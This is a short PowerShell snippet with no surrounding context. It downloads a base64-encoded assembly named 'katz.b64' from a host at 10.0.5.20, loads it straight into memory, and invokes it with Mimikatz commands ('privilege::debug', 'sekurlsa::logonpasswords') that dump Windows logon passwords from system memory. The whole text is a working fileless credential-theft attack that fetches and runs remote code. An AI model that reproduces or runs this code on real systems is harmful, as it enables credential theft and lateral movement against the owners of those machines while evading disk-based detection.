$url = 'http://10.0.5.20:8000/katz.b64'
$asm = [System.Reflection.Assembly]::Load([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString($url)))
$entry = $asm.EntryPoint
$argv = [string[]]@('privilege::debug', 'sekurlsa::logonpasswords', 'exit')
$entry.Invoke($null, (, $argv))
